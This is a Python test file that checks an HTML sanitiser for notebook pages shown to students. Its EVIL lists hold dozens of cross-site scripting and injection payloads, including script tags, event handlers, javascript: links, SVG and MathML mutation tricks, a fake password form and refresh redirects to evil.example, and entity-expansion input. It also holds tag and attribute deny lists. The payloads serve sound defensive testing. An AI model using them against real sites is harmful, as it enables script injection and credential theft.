import base64
import itertools
import re
from html.parser import HTMLParser

import pytest

from whobuys.canvas import gallery_canvas
from whobuys.pages.page import NO_ALT, clean_html, page

NUMBERS = itertools.count()
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 40).decode()


class Reader(HTMLParser):
    """Collect tags with their attributes, and the text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words.append(data)


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    return reader


def code(*outputs: dict, source: str = "x", id: str = "", **metadata) -> dict:
    id = id or f"a{next(NUMBERS)}"
    return {
        "cell_type": "code",
        "id": id,
        "source": source,
        "metadata": metadata,
        "outputs": list(outputs),
        "execution_count": 1,
    }


def markdown(source: str, id: str = "") -> dict:
    id = id or f"m{next(NUMBERS)}"
    return {"cell_type": "markdown", "id": id, "source": source, "metadata": {}}


def shown(**data: str) -> dict:
    return {
        "output_type": "display_data",
        "data": {kind.replace("_", "/"): value for kind, value in data.items()},
        "metadata": {},
    }


def stream(text: str, name: str = "stdout") -> dict:
    return {"output_type": "stream", "name": name, "text": text}


def error(
    ename: str = "ValueError", evalue: str = "no", traceback: list[str] | None = None
) -> dict:
    return {
        "output_type": "error",
        "ename": ename,
        "evalue": evalue,
        "traceback": traceback or [],
    }


EVIL_DRAWINGS = [
    base64.b64encode(drawing.encode()).decode()
    for drawing in (
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><g\nonclick=alert(1)>x</g></svg>",
        "<svg><foreignObject><iframe src='//evil.example'/></foreignObject></svg>",
        "<svg><image href='https://evil.example/x.png'/></svg>",
        "<svg><use xlink:href='data:image/svg+xml;base64,AA#x'/></svg>",
        "<svg><rect style='fill:url(https://evil.example/x)'/></svg>",
        "<svg><rect fill='&#117;rl(//evil.example)'/></svg>",
        "<svg><style>@import '//evil.example'</style></svg>",
        "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><svg>&b;</svg>",
        "<?xml-stylesheet href='//evil.example'?><svg/>",
        "<svg><a href='javascript:alert(1)'>x</a></svg>",
        "<svg><set attributeName='onload' to='alert(1)'/></svg>",
    )
]
EVIL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png' alt='a'>",
    "<img src=`javascript:alert(1)`>",
    "<img srcset='//evil.example/a 1x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>cover</div>",
    "<style>.verdict{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<video src=//evil.example autoplay><source src=//evil.example></video>",
    "<table background=//evil.example><tr><td background=//evil.example>x</td></tr></table>",
    "<div class='verdict passed' id='cell-q1'>✓ Right</div>",
    *(f"<img src='data:image/svg+xml;base64,{drawing}'>" for drawing in EVIL_DRAWINGS),
    "<img src='data:image/png;base64,AA' onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>x</details>",
    "</section></main></body><script>alert(1)</script>",
    "<p>" * 3 + "</main>" * 3,
    "<a href='#' target=_top name=location id=top>x</a>",
]


def assert_harmless(html: str) -> None:
    """Assert that a whole page holds one known style, and nothing that runs, fetches or covers."""
    reader = read(html)
    names = [tag for tag, _ in reader.tags]
    for once in ("html", "head", "body", "main", "style", "title"):
        assert names.count(once) == 1, once
    forbidden = {"script", "iframe", "object", "embed", "link", "base", "form", "input", "button"}
    forbidden |= {"svg", "math", "video", "audio", "source", "template", "noscript", "textarea"}
    assert forbidden.isdisjoint(names)
    for tag, attributes in reader.tags:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "srcset", "background", "action", "target", "srcdoc")
            if name == "src":
                assert re.match(r"data:image/(png|jpeg|svg\+xml);base64,", value or "")
                assert not any(drawing in (value or "") for drawing in EVIL_DRAWINGS)
            if name == "href":
                assert re.match(r"https?://|mailto:|#", value or "")
    metas = [attributes for tag, attributes in reader.tags if tag == "meta"]
    refresh = [m for m in metas if (m.get("http-equiv") or "").lower() == "refresh"]
    assert refresh == []
    assert html.count("<main>") == html.count("</main>") == 1
    assert html.rstrip().endswith("</main>\n</body>\n</html>")


@pytest.mark.parametrize("evil", EVIL)
def test_hostile_html_is_harmless_wherever_it_stands(evil):
    html = page(
        [
            markdown(evil),
            markdown(f"# {evil}\n\n> {evil}\n\n| {evil} |\n|--|\n| {evil} |"),
            markdown(f'[x]({evil} "{evil}") ![{evil}](x) <{evil}> `{evil}` $${evil}$$'),
            code(shown(text_html=evil), source=evil),
            code(shown(text_markdown=evil), shown(text_plain=evil), shown(text_latex=evil)),
            code(shown(application_javascript="alert(1)", text_plain=evil)),
            code(shown(**{"image/svg+xml": f"<svg>{evil}</svg>"})),
            code(stream(evil), stream(evil, "stderr"), error(evil, evil, [f"Cell In[1] {evil}"])),
            {"cell_type": "raw", "id": "r", "source": evil, "metadata": {}},
        ],
        title=evil,
    )
    assert_harmless(html)


def test_a_drawing_that_only_shows_something_stays():
    picture = gallery_canvas("online education")._repr_mimebundle_()["text/html"]
    html = page([code(shown(text_html=picture))], title="t")
    assert "data:image/svg+xml;base64," in html
    too_large = base64.b64encode(b"<svg>" + b" " * 1_000_000 + b"</svg>").decode()
    assert "svg+xml" not in clean_html(f"<img src='data:image/svg+xml;base64,{too_large}'>")


def test_long_texts_in_tables_wrap_and_figures_do_not():
    table = "<table><tr><td>2026-01-05</td><td>" + "a long remark " * 5 + "</td></tr></table>"
    assert '<td>2026-01-05</td><td class="long">a long' in clean_html(table)


def test_a_forged_card_loses_its_class_and_anchor():
    html = page([markdown("<div class='verdict passed' id='cell-q1'>x</div>")], title="t")
    body = html.partition("<main>")[2]
    assert "verdict" not in body
    assert "id=" not in body


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](http://evil.example/pixel.png)",
        "![x](attachment:pixel.png)",
        "<http://ok.example>\n\n[a]: javascript:alert(1)\n\n[x][a]",
        "```html\n</pre></section></main><script>alert(1)</script>\n```",
        "$</script><script>alert(1)</script>$",
        "<div>\n\nunclosed\n\n<table><tr><td>",
        "<!-- open comment",
        "<pre><code>open",
    ],
)
def test_markdown_stays_in_its_place(source):
    html = page([markdown(source), markdown("after")], title="t", bottom="<footer>end</footer>")
    assert_harmless(html)
    assert "<footer>end</footer>\n</main>" in html
    assert "<p>after</p>" in html


def test_a_pasted_picture_leaves_its_place():
    html = page([markdown("![plan](attachment:plan.png)\n\nafter")], title="t")
    assert 'alt="plan"' in html
    assert "<p>after</p>" in html
    assert "src=" not in html
    odd = page(
        [markdown("![x](&#97;ttachment:y)"), markdown("[x]: attachment:y\n\n![x][x]")], title="t"
    )
    assert_harmless(odd)


def test_headings_have_no_signs_behind_them():
    assert "¶" not in page([markdown("# One\n\n## Two")], title="t")


def test_the_policy_forbids_everything_but_own_style_and_embedded_pictures():
    html = page([], title="t")
    policy = next(
        attributes["content"]
        for tag, attributes in read(html).tags
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert html.index("Content-Security-Policy") < html.index("<style>")
    assert "@import" not in html
    assert "url(" not in html


@pytest.mark.parametrize(
    "forged",
    [
        '" onerror="alert(1)',
        'AAAA" onerror="alert(1)" x="',
        "AAAA'><script>alert(1)</script>",
        "not base64!",
        "",
        "AAA",
    ],
)
def test_a_forged_picture_is_left_out(forged):
    html = page([code(shown(image_png=forged, text_plain="words"))], title="t")
    assert_harmless(html)
    assert "<img" not in html
    assert "words" in html


def test_a_picture_keeps_its_words():
    output = shown(image_png=PNG, text_plain="<Figure size 640x480>", text_html="<b>no</b>")
    output["metadata"] = {"image/png": {"alt": 'Half "came" <back>'}}
    html = page([code(output), code(shown(image_png=PNG))], title="t")
    alts = [attributes["alt"] for tag, attributes in read(html).tags if tag == "img"]
    assert alts == ['Half "came" <back>', NO_ALT]
    assert_harmless(html)


@pytest.mark.parametrize("metadata", [{"image/png": 3}, {"image/png": {"alt": [1]}}, {}])
def test_odd_alt_text_is_no_alt_text(metadata):
    output = shown(image_png=PNG) | {"metadata": metadata}
    assert NO_ALT in page([code(output)], title="t")


def test_control_codes_and_overwritten_progress_are_dropped():
    html = page(
        [
            code(
                stream("\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x07\x00\x08\n"),
                stream(" 10%\r 50%\r100%\r\nnext\r\n", "stderr"),
                shown(text_plain="\x1b[1mbold\x1b[0m"),
                error("E", "\x1b[31mbad", ["\x1b[0;31mCell In[1], line 1\x1b[0m"]),
            )
        ],
        title="t",
    )
    assert re.search(r"[\x00-\x08\x0b-\x1f\x7f]", html) is None
    words = "".join(read(html).words)
    assert "red " in words
    assert "100%\nnext" in words
    assert "50%" not in words
    assert "bold" in words
    assert "[31m" not in words


@pytest.mark.parametrize(
    "own",
    [
        "Cell In[3], line 1\nboom()",
        "\x1b[36mCell\x1b[39m\x1b[36m \x1b[39m\x1b[32mIn[3]\x1b[39m, line 1\nboom()",
    ],
)
def test_a_traceback_keeps_the_students_own_lines_only(own):
    frames = ["-----", own, "File /home/teacher/lib/x.py\nCell In[", "ValueError: no"]
    html = page([code(error("ValueError", "no", frames))], title="t")
    assert "Cell In[3], line 1\nboom()" in html
    assert "ValueError: no" in html
    assert "/home/teacher" not in html


def test_halves_of_characters_do_not_break_the_page(tmp_path):
    from whobuys.pages.files import write_text

    html = page([code(stream("\ud83c"), source="'\udc00'"), markdown("\ud800")], title="t")
    write_text(tmp_path / "x.html", html)
    assert "?" in (tmp_path / "x.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "cells",
    [
        [code(shown(text_html="<div>" * 400_000, text_plain="words"))],
        [code(shown(text_html="<ul><li>" * 200_000, text_plain="words"))],
        [code(*[shown(text_html="<ul><li>" * 7_000, text_plain="words")] * 50)],
        [markdown("<div>" * 400_000)],
        [markdown("\\begin{a}" * 50_000)],
        [code(shown(text_markdown="\\begin{a}" * 100_000))],
        [code(source="f'{" * 100_000)],
        [code(source="x = [1]\n" * 1_000) for _ in range(100)],
        [markdown("word " * 1_000) for _ in range(100)],
        [code(stream("x" * 1_900_000)), code(stream("x\r" * 900_000))],
    ],
    ids=["div", "list", "lists", "md-div", "math", "md-output", "code", "codes", "texts", "line"],
)
def test_what_is_slow_to_render_is_cut(cells):
    """Each of these took minutes, or would; nesting costs the square of its depth."""
    html = page(cells, title="t")
    assert len(html) < 15_000_000


def test_a_long_table_is_not_cut():
    row = "<tr>" + "<td>1</td>" * 12 + "</tr>"
    html = page([code(shown(text_html=f"<table><tbody>{row * 1_000}</tbody></table>"))], title="t")
    assert html.count("<td>1</td>") == 12_000


def test_notes_of_the_runner_are_shown_and_nothing_else_of_the_metadata():
    cell = code(stream("x"), cut="More was printed", stopped="Stopped after 5 s", other="hidden")
    html = page([cell, code(cut={"a": 1})], title="t")
    assert "More was printed" in html
    assert "Stopped after 5 s" in html
    assert "hidden" not in html


def test_cards_stand_right_after_their_cell():
    cells = [
        code(stream("one"), id="a", source="first"),
        markdown("two", id="b"),
        {"cell_type": "raw", "id": "c", "source": "three", "metadata": {}},
        code(stream("four"), id="d", source="last"),
    ]
    html = page(cells, title="t", after={id: f"<p>card-{id}</p>" for id in "abcd"})
    marks = ["first", "one", "card-a", "two", "card-b", "three", "card-c", "last", "four", "card-d"]
    body = html.partition("<main>")[2]
    assert [body.index(mark) for mark in marks] == sorted(body.index(mark) for mark in marks)
    assert len(re.findall(r"card-\w", body)) == 4


def test_code_can_be_hidden_and_titles_are_text():
    html = page(
        [code(stream("out"), source="secret_code")], title="<b>&", hide_code=True, lang="zh"
    )
    assert "secret_code" not in html
    assert "out" in html
    assert "<title>&lt;b&gt;&amp;</title>" in html
    assert '<html lang="zh">' in html


@pytest.mark.parametrize(
    "html",
    [
        "<table><caption>c</caption><tr><th scope='col' colspan='2'>a</th></tr></table>",
        f'<img src="data:image/png;base64,{PNG}" alt="a">',
        '<a href="https://example.org" title="t">x</a>',
        "<details open=''><summary>s</summary>x</details>",
        "<p>1 &lt; 2 <strong>b</strong> <em>i</em> <code>c</code><br>x<sub>1</sub></p>",
    ],
)
def test_what_students_need_is_kept(html):
    tags = {tag for tag, _ in read(html).tags}
    cleaned = read(clean_html(html))
    assert {tag for tag, _ in cleaned.tags} >= tags
    for (_, before), (_, after) in zip(
        [t for t in read(html).tags if t[1]], [t for t in cleaned.tags if t[1]], strict=True
    ):
        assert before.items() <= after.items()
